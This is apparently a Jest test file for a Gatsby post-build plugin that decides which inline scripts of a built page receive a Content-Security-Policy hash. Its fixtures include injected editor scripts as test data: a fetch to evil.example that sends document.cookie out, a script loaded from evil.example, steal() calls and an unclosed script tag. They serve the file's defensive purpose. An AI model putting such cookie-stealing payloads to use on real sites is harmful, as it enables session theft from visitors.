/**
 * @jest-environment node
 *
 * Which inline scripts of a built page get a hash in its Content-Security-Policy.
 */
import {
  cspHash,
  filesWithScripts,
  findScripts,
  isExecutableInline,
  pageScriptHashes,
} from "../../plugins/post-build/inline-scripts";

// The inline scripts Gatsby writes into every page, shortened.
const gatsby = {
  headImage: 'const e="undefined"!=typeof HTMLImageElement&&"loading"in HTMLImageElement.prototype;e&&1',
  bodyImage: 'const t="undefined"!=typeof HTMLImageElement&&"loading"in HTMLImageElement.prototype;if(t){}',
  loader: '/*<![CDATA[*/window.pagePath="/terms";/*]]>*/',
  chunkMap: '\n            window.___chunkMapping="{}";\n          ',
  compilationHash: 'window.___webpackCompilationHash="d7257f31ed14ff134384";',
};
const gatsbyHashes = Object.values(gatsby).map(cspHash);
const jsonLd = '{"@context":"https://schema.org","@type":"Organization"}';

/** A page shaped like Gatsby's output, with `body` where a page renders Markdown HTML. */
function page(body: string): string {
  return [
    `<!DOCTYPE html><html lang="en"><head><script type="module">${gatsby.headImage}</script>`,
    `<script type="application/ld+json" data-gatsby-head="true">${jsonLd}</script></head><body>`,
    `<div id="___gatsby"><main><div class="prose mx-auto">${body}</div>`,
    `<img data-main-image="" data-src="/static/a.jpg"><script type="module">${gatsby.bodyImage}</script>`,
    `<img data-main-image="" data-src="/static/b.jpg"><script type="module">${gatsby.bodyImage}</script></main></div>`,
    `<script id="gatsby-script-loader">${gatsby.loader}</script>`,
    `<script\n            id="gatsby-chunk-mapping"\n          >${gatsby.chunkMap}</script>`,
    `<script>${gatsby.compilationHash}</script>`,
    `<script src="/webpack-runtime-411c99b32f2905b8356c.js" async></script></body></html>`,
  ].join("");
}

const terms = (html: string) => ({ file: "content/pages/terms.md", html });

describe("cspHash", () => {
  it("gives the hash of the Content-Security-Policy specification's example", () => {
    expect(cspHash("alert('Hello, world.');")).toBe("'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='");
  });

  it("hashes the text as the browser sees it, with CR LF read as LF", () => {
    expect(cspHash("a();\r\nb();")).toBe(cspHash("a();\nb();"));
  });
});

describe("findScripts and isExecutableInline", () => {
  const kinds = (html: string) => findScripts(html).map((script) => [script.text, isExecutableInline(script)]);

  it("runs classic and module scripts; leaves out data blocks and external files", () => {
    expect(
      kinds(
        '<script>a</script><script type="module">b</script><script type="text/javascript">c</script>' +
          '<script type="application/ld+json">{}</script><script src="/x.js"></script><script type="text/plain">d</script>',
      ),
    ).toEqual([
      ["a", true],
      ["b", true],
      ["c", true],
      ["{}", false],
      ["", false],
      ["d", false],
    ]);
  });

  it("does not take data-src or srcset for src, and reads quoted '>' inside a start tag", () => {
    expect(kinds('<script data-src="/x.js">a</script><SCRIPT title="1>2">b</SCRIPT >')).toEqual([
      ["a", true],
      ["b", true],
    ]);
  });
});

describe("pageScriptHashes", () => {
  it("hashes each of Gatsby's executable inline scripts once, and not the JSON-LD", () => {
    const hashes = pageScriptHashes(page("<p>Terms</p>"), [terms("<p>Terms</p>")]);
    expect(hashes).toEqual(gatsbyHashes);
    expect(hashes).not.toContain(cspHash(jsonLd));
  });

  it("gives no hash to a script an editor put in Markdown", () => {
    const editorHtml = "<p>Terms</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>";
    const hashes = pageScriptHashes(page(editorHtml), [terms(editorHtml)]);
    expect(hashes).not.toContain(cspHash("fetch('https://evil.example/?' + document.cookie)"));
    expect(hashes).toEqual(gatsbyHashes);
  });

  it("gives no hash to an editor's script when another page repeats its text outside the Markdown", () => {
    // The page holds the script but not the whole Markdown HTML (as an excerpt or a transformed copy would).
    const editorHtml = "<p>Intro</p>\n<script>steal()</script>";
    const otherPage = page("<p>No Markdown here</p>").replace("</main>", "<script>steal()</script></main>");
    expect(pageScriptHashes(otherPage, [terms(editorHtml)])).toEqual(gatsbyHashes);
  });

  it("gives no hash to an unclosed editor script that swallows Gatsby's script loader", () => {
    // On a page without images the browser would run "steal();/* …page… /*<![CDATA[*/window.pagePath=…/*]]>*/"
    // as one valid script: the editor's code, then a comment, then the loader's statement.
    const editorHtml = "<p>Terms</p><script>steal();/*";
    const built = page(editorHtml).replace(/<img[^>]*><script type="module">[^<]*<\/script>/g, "");
    const swallowed = findScripts(built).find((script) => script.text.startsWith("steal();"));
    expect(swallowed?.text).toMatch(/^steal\(\);\/\*<\/div>.*window\.pagePath="\/terms";\/\*\]\]>\*\/$/);
    const hashes = pageScriptHashes(built, [terms(editorHtml)]);
    expect(hashes).not.toContain(cspHash(swallowed!.text));
    expect(hashes).toEqual([cspHash(gatsby.headImage), cspHash(gatsby.chunkMap), cspHash(gatsby.compilationHash)]);
  });

  it("is not fooled by an editor script in upper case or with attributes", () => {
    const editorHtml = '<SCRIPT type="text/javascript" defer>steal()</SCRIPT>';
    expect(pageScriptHashes(page(editorHtml), [terms(editorHtml)])).toEqual(gatsbyHashes);
  });
});

describe("filesWithScripts", () => {
  it("names the content files whose Markdown HTML holds a script", () => {
    expect(
      filesWithScripts([
        terms("<p>ok</p>"),
        { file: "content/about/about.md", html: "<p>x</p><script>y()</script>" },
        { file: "content/hero/a.md", html: "<Script\nsrc=//evil.example/x.js>" },
      ]),
    ).toEqual(["content/about/about.md", "content/hero/a.md"]);
  });
});
